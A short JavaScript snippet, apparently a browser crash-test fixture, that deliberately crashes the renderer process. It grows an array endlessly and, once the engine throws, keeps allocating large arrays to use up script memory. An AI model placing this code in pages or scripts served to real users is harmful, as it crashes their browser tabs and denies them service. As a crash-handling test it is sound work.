// Takes the renderer down. An array that outgrows what the engine can hold is fatal to the process of an older one; in a
// newer one it is an error, and what is fatal is to use up the memory that scripts may have.
(function () {
  'use strict';
  const everGrowing = [];
  try {
    for (;;) everGrowing.push(0);
  } catch (error) {
    everGrowing.length = 0;
    for (;;) everGrowing.push(new Array(4e6).fill(1.1));
  }
})();
